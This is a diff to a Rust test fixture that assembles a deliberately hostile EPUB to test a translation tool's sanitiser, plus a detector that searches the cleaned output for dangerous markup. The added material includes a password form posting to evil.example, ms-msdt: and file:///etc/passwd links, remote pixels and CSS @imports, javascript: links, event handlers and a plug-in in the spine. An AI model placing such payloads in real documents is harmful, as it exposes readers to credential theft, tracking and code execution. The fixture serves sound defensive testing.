@@ -1,6 +1,8 @@
 //! An EPUB carrying everything a translated book must not pass on (scripts inline, in files and
-//! in SVG, event handlers, `javascript:` and `data:` links, frames, plug-ins, a form, a
-//! refresh, a base, a remote stylesheet, zip entries named to land outside the package), and
+//! in SVG, event handlers, `javascript:`, `data:`, `file:` and `ms-msdt:` links, frames,
+//! plug-ins, a form, a refresh, a base, remote style sheets, images and CSS `url()`s and
+//! `@import`s, chapters whose media types carry parameters, odd case and spaces, a plug-in in
+//! the spine, zip entries named to land outside the package), and
 //! [`findings`], which looks for any of it in a file without sharing the cleaner's code, so
 //! that the two cannot be wrong the same way.
 //!
@@ -24,7 +26,15 @@ pub const UNSAFE_NAMES: &[&str] = &[
 ];
 
 /// Words of the book's text, which must survive the cleaning.
-pub const KEPT_WORDS: &[&str] = &["stormy night", "Your password", "Chapter two", "fallback"];
+pub const KEPT_WORDS: &[&str] = &[
+    "stormy night",
+    "Your password",
+    "Chapter two",
+    "fallback",
+    "Styled words",
+    "Chapter three",
+    "Chapter four",
+];
 
 /// A 1 x 1 PNG.
 const PNG: &[u8] = &[
@@ -53,8 +63,13 @@ const OPF: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
   </metadata>
   <manifest>
     <item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
-    <item id="c1" href="c1.xhtml" media-type="application/xhtml+xml" properties="scripted svg"/>
+    <item id="c1" href="c1.xhtml" media-type="application/xhtml+xml" properties="scripted svg remote-resources"/>
     <item id="c2" href="c2.xhtml" media-type="application/xhtml+xml" properties="scripted"/>
+    <item id="c3" href="c3.xml" media-type="application/xhtml+xml;charset=utf-8"/>
+    <item id="c4" href="c4.htm5" media-type="text/html; charset=utf-8"/>
+    <item id="c5" href="c5.xhtml" media-type=" Application/XHTML+XML ; x=y"/>
+    <item id="movie" href="movie.swf" media-type="application/x-shockwave-flash"/>
+    <item id="css" href="style.css" media-type="text/css"/>
     <item id="drawing" href="drawing.svg" media-type="image/svg+xml"/>
     <item id="dot" href="dot.png" media-type="image/png"/>
     <item id="app" href="app.js" media-type="application/javascript"/>
@@ -66,6 +81,10 @@ const OPF: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
   <spine>
     <itemref idref="c1"/>
     <itemref idref="c2"/>
+    <itemref idref="c3"/>
+    <itemref idref="c4"/>
+    <itemref idref="c5" linear="no"/>
+    <itemref idref="movie"/>
   </spine>
 </package>
 "#;
@@ -81,6 +100,7 @@ const NAV: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
       <li><a href="c2.xhtml">Chapter Two</a></li>
     </ol>
   </nav>
+  <p>See <a href="file:///etc/passwd">the passwords</a> and <a href="ms-msdt:/id PCWDiagnostic /skip force">help</a>.</p>
 </body>
 </html>
 "#;
@@ -95,6 +115,8 @@ fn chapter_one() -> String {
   <meta http-equiv="refresh" content="0;url=https://evil.example/"/>
   <base href="https://evil.example/"/>
   <link rel="stylesheet" type="text/css" href="https://evil.example/x.css"/>
+  <link rel="stylesheet" type="text/css" href="style.css"/>
+  <style>@import url(https://evil.example/i.css); h1 {{ background: url('https://evil.example/bg.png') }}</style>
   <script src="app.js"></script>
   <script type="text/javascript"><![CDATA[ if (1 < 2) {{ alert("inline"); }} ]]></script>
 </head>
@@ -107,6 +129,8 @@ fn chapter_one() -> String {
   <embed src="https://evil.example/x.swf" type="application/x-shockwave-flash"/>
   <form action="https://evil.example/steal" method="post"><p>Your password: <input type="password" name="p"/> <button type="submit" formaction="javascript:alert(6)">Send</button></p></form>
   <p><img src="{PNG_DATA_URL}" alt="a dot inline"/><img src="dot.png" alt="a dot"/><img src="../../../../tmp/x.png" alt="a file outside"/><img src="drawing.svg" alt="a drawing"/></p>
+  <p><a href="file:///etc/passwd"><img src="dot.png" alt="a linked dot"/></a><img src="https://evil.example/pixel.png" alt="a pixel"/></p>
+  <p style="color: black; background:url(https://evil.example/s.png)">Styled words</p>
   <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" onload="alert(7)">
     <script type="application/ecmascript">alert(8)</script>
     <a xlink:href="javascript:alert(9)"><rect width="5" height="5"/></a>
@@ -140,18 +164,47 @@ const DRAWING: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
 </svg>
 "#;
 
+/// A chapter typed and named as the audit's were, with the same script, handler and link.
+fn chapter_typed_oddly(title: &str, alert: u32) -> String {
+    format!(
+        r#"<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE html>
+<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="en" lang="en">
+<head><title>{title}</title></head>
+<body>
+  <h1>{title}</h1>
+  <p onmouseover="alert({alert})">{title} has a <a href="javascript:alert({alert})">link</a>.</p>
+  <script>alert({alert})</script>
+</body>
+</html>
+"#
+    )
+}
+
+const STYLE: &str = "@import \"https://evil.example/y.css\";\n\
+    p { margin: 0 }\n\
+    @font-face { font-family: x; src: url(//evil.example/f.woff2) format(\"woff2\") }\n";
+
 /// The EPUB 3 book described in the module's notes.
 pub fn epub() -> Vec<u8> {
     let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
     let stored = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
     let deflated = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
     let chapter_one = chapter_one();
+    let chapter_three = chapter_typed_oddly("Chapter three", 22);
+    let chapter_four = chapter_typed_oddly("Chapter four", 23);
+    let chapter_five = chapter_typed_oddly("Chapter five", 24);
     let mut entries: Vec<(&str, &[u8])> = vec![
         ("META-INF/container.xml", CONTAINER.as_bytes()),
         ("OEBPS/content.opf", OPF.as_bytes()),
         ("OEBPS/nav.xhtml", NAV.as_bytes()),
         ("OEBPS/c1.xhtml", chapter_one.as_bytes()),
         ("OEBPS/c2.xhtml", CHAPTER_TWO.as_bytes()),
+        ("OEBPS/c3.xml", chapter_three.as_bytes()),
+        ("OEBPS/c4.htm5", chapter_four.as_bytes()),
+        ("OEBPS/c5.xhtml", chapter_five.as_bytes()),
+        ("OEBPS/movie.swf", b"FWS\x0a\x00\x00\x00\x00"),
+        ("OEBPS/style.css", STYLE.as_bytes()),
         ("OEBPS/drawing.svg", DRAWING.as_bytes()),
         ("OEBPS/dot.png", PNG),
         ("OEBPS/app.js", b"alert(18)"),
@@ -184,14 +237,15 @@ pub fn findings(epub: &[u8]) -> Vec<String> {
         if lower_name.ends_with(".js") {
             found.push(format!("a script file {name}"));
         }
-        let is_text = [".xhtml", ".html", ".htm", ".svg", ".opf"]
-            .iter()
-            .any(|ext| lower_name.ends_with(ext));
-        if !is_text {
-            continue;
+        if lower_name.ends_with(".swf") {
+            found.push(format!("a plug-in file {name}"));
         }
-        let mut text = String::new();
-        entry.read_to_string(&mut text).expect("UTF-8 text");
+        // Every entry that is text, whatever its name says.
+        let mut bytes = Vec::new();
+        entry.read_to_end(&mut bytes).expect("a readable entry");
+        let Ok(text) = String::from_utf8(bytes) else {
+            continue;
+        };
         let lower = text.to_ascii_lowercase();
         for needle in [
             "<script",
@@ -206,8 +260,12 @@ pub fn findings(epub: &[u8]) -> Vec<String> {
             "http-equiv=\"refresh\"",
             "javascript:",
             "vbscript:",
-            "evil.example/x.css",
+            "evil.example",
+            "file:",
+            "ms-msdt:",
+            "movie.swf",
             "scripted",
+            "remote-resources",
             "tmp/x",
             "x.txt",
             "app.js",
